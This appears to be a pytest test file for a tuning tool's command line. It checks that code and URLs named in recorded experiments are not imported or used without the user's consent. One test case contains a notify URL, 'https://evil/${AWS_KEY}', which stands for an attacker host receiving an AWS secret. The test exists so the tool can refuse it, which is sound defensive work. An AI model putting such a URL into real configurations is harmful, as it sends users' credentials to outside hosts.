"""Consent to code that a recorded experiment or an export names, before it is imported."""

import sys
from types import SimpleNamespace

import click
import pytest
from commands import GOOD, call, refusal, text_of
from synthetic import Writer, ended, make_folder

from tuner.cli.consent import admit_experiment, admit_network
from tuner.cli.validate import prepare_search
from tuner.errors import UsageError
from tuner.experiment.results.results import Results
from tuner.spec.code import IMAGE_CLASSIFIER, NamedCode

CODE = "def train(config):\n    pass\n"
NET = "from torch import nn\n\n\ndef net(num_classes):\n    return nn.LazyLinear(num_classes)\n"
SPEC = {key: value for key, value in GOOD.items() if key != "training"}


@pytest.fixture(autouse=True)
def nothing_remembered(tmp_path_factory, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path_factory.mktemp("state")))


def recorded(folder, spec):
    return text_of(folder / "experiment.json", {"format": 1, "spec": spec})


@pytest.fixture
def theirs(tmp_path_factory):
    """A recorded experiment elsewhere that names a module in its folder."""
    folder = tmp_path_factory.mktemp("elsewhere")
    (folder / "their_code.py").write_text(CODE)
    yield recorded(folder, {**SPEC, "trainable": "their_code:train"})
    for name in ("their_code", "own_code", "mine"):
        sys.modules.pop(name, None)


def test_code_of_a_spec_with_derived_values_is_not_imported_before_consent(theirs):
    derived = {**SPEC["search"], "points_to_evaluate": [{"lr": 0.1}]}
    recorded(
        theirs.parent, {**SPEC, "search": derived, "trainable": "their_code:train"}
    )
    assert "give --trust to run it" in refusal("validate", theirs)
    assert "their_code" not in sys.modules
    recorded(theirs.parent, {**SPEC, "search": derived, "trainable": "gone:train"})
    assert "cannot be imported" in str(call("validate", theirs, "--trust").exception)


def experiment(here, **fields):
    return Results(ended(here / "results/x", **{"training": {}, **fields}))


def validate(*arguments):
    """What `tuner validate` resolves, with stdin as it is: CliRunner replaces it."""
    name, *assignments = map(str, arguments)
    flags = {"experiment": name, "assignments": assignments, "address": "local"}
    return prepare_search(
        dict.fromkeys(("like", "command", "storage", "from")) | flags, trust=False
    )


def test_run_like_a_folder_asks_before_a_searched_data_set_is_imported(theirs):
    space = {"lr": "uniform(0, 1)", "dataset": "choice(['digits', 'their_code:load'])"}
    recorded(theirs.parent, {**SPEC, "search": {"space": space}})
    refused = refusal("run", "--like", str(theirs.parent), "--no-evaluate")
    assert f"their_code:load ({theirs.parent / 'their_code.py'})" in refused
    assert "their_code" not in sys.modules


@pytest.mark.parametrize("option", ["--trust", "--yes"])
def test_validate_with_trust_imports_code(theirs, option):
    assert call("validate", theirs, option).exception is None
    assert "their_code" in sys.modules


def test_validate_at_a_terminal_imports_code_after_a_yes(theirs, monkeypatch):
    questions = []

    def confirm(text, **options):
        questions.append(text)
        if len(questions) == 1:
            raise click.Abort

    monkeypatch.setattr(click, "confirm", confirm)
    monkeypatch.setattr(sys, "stdin", SimpleNamespace(isatty=lambda: True))
    with pytest.raises(click.Abort):
        validate(theirs)
    assert f"their_code:train ({theirs.parent / 'their_code.py'})" in questions[0]
    assert "their_code" not in sys.modules
    assert validate(theirs)
    assert "their_code" in sys.modules
    assert validate(theirs)
    assert len(questions) == 2  # the yes is remembered


def test_validate_asks_nothing_about_code_from_the_command_line(theirs, monkeypatch):
    folder = theirs.parent
    monkeypatch.syspath_prepend(str(folder))
    text_of(folder / "own.json", {**SPEC, "trainable": "their_code:train"})
    assert validate(folder / "own.json")
    (folder / "mine.py").write_text(
        "import json, pathlib\n"
        "def experiment():\n"
        "    return json.loads((pathlib.Path(__file__).parent / 'own.json').read_text())\n"
    )
    assert validate("mine:experiment")
    assert validate(folder / "mine.py")
    assert validate(text_of("own.yaml", SPEC), "trainable=their_code:train")
    command = (
        "--command",
        "bash -c 1",
        "search.space.lr=uniform(0, 1)",
        "num_samples=1",
    )
    assert call("validate", *command).exception is None


def test_admit_experiment_asks_nothing_about_code_that_the_user_has_run(snapshot, here):
    results = experiment(here, trainable="ray.x:train")
    with snapshot.raises(UsageError):
        admit_experiment(results, trust=False)
    NamedCode("trainable", "ray.x:train").remember()
    admit_experiment(results, trust=False)


def test_admit_experiment_asks_only_about_code_outside_the_working_directory(
    snapshot, here, monkeypatch
):
    (here / "own_code.py").write_text(CODE)
    results = experiment(here, trainable="own_code:train")
    admit_experiment(results, trust=False)
    (here / "own_code.py").rename(results.folder / "own_code.py")
    monkeypatch.syspath_prepend(str(results.folder))
    with snapshot.raises(UsageError):
        admit_experiment(results, trust=False)


SEARCHER = {"search": {"strategy": "ray.x", "space": {"lr": "uniform(0, 1)"}}}
SCHEDULER = {"scheduler": {"name": "ray.y", "max_t": 9}}


@pytest.mark.parametrize("named", [SEARCHER, SCHEDULER])
def test_admit_experiment_that_only_trains_passes_over_its_searcher(
    snapshot, here, named
):
    results = experiment(here, trainable=IMAGE_CLASSIFIER, **named)
    admit_experiment(results, trust=False, trains_only=True)
    with snapshot.raises(UsageError):
        admit_experiment(results, trust=False)
    admit_experiment(results, trust=True)


@pytest.mark.parametrize(
    "fields",
    [
        {"trainable": IMAGE_CLASSIFIER, "training": {"dataset": "ray.x:load"}},
        {"trainable": {"command": "bash -c 1"}},
        {"trainable": IMAGE_CLASSIFIER, "notify": ["https://${HOST}"]},
    ],
)
def test_admit_experiment_needs_trust_for_each_kind_of_code(snapshot, here, fields):
    with snapshot.raises(UsageError):
        admit_experiment(experiment(here, **fields), trust=False)


@pytest.mark.parametrize("spelt", ["model", r"mod\u0065l"])
def test_admit_finds_a_network_that_only_the_journal_names(here, spelt):
    folder = make_folder(here / "results/x", trainable=IMAGE_CLASSIFIER, training={})
    writer = Writer(folder)
    for number in range(3):
        writer.trial(
            number, [0.3], config={"lr": 0.1, "model": "timm.data:create_loader"}
        )
    writer.end()
    journal = folder / "journal.jsonl"
    journal.write_text(journal.read_text().replace('"model"', f'"{spelt}"'))
    for command in (admit_experiment, admit_network):
        with pytest.raises(UsageError) as refused:
            command(Results(folder), trust=False)
        assert str(refused.value).count("timm.data:create_loader") == 1


@pytest.mark.parametrize(
    "fields",
    [
        {"training": {"model": "their_code:net"}},
        {"notify": ["https://${KEY}"]},
        {"notify": ["https://evil/${AWS_KEY}"]},
    ],
)
def test_validate_refuses_recorded_code_and_not_overrides(snapshot, theirs, fields):
    (theirs.parent / "their_code.py").write_text(NET)
    recorded(theirs.parent, {**GOOD, **fields})
    with snapshot.raises(UsageError):
        validate(theirs)
    assert validate(theirs, "training.model=cnn", "notify=['https://${HOST}']")
